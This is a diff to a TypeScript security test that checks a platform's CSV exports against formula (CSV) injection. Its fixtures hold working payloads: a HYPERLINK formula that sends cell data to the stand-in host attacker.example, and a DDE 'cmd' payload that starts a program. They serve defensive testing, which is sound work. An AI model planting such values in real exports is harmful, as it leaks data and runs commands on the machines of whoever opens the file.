@@ -5,7 +5,8 @@ import { addEngagement, addPerson, addProgramme, as, createOrg, tokenFor, uuid }
 /**
  * CSV injection (OWASP): text a spreadsheet reads as a formula must not start a cell of any export.
  * The attacks come from everyone who can put text into an export: a participant's own attribute
- * (a representation group), a coordinator's names for people and programmes, a population group.
+ * (a representation group, once the population lists it: a value only people hold is `other`), a
+ * coordinator's names for people and programmes, a population group.
  */
 const leak = '=HYPERLINK("http://attacker.example/?leak="&A2,"Open")';
 const calc = "@SUM(1+1)*cmd|' /C calc'!A0";
@@ -34,7 +35,7 @@ async function hostileOrg() {
   const menteeClient = as(await tokenFor(coordinator, mentee.id));
   const own = await menteeClient.patch(`/v1/participants/${mentee.id}`, { attributes: { gender: leak } });
   expect(own.status).toBe(200);
-  const population = await coordinator.put('/v1/population/gender', { counts: { [plus]: 10, woman: 40 } });
+  const population = await coordinator.put('/v1/population/gender', { counts: { [plus]: 10, [leak]: 5, woman: 40 } });
   expect(population.status).toBe(200);
   return { coordinator };
 }
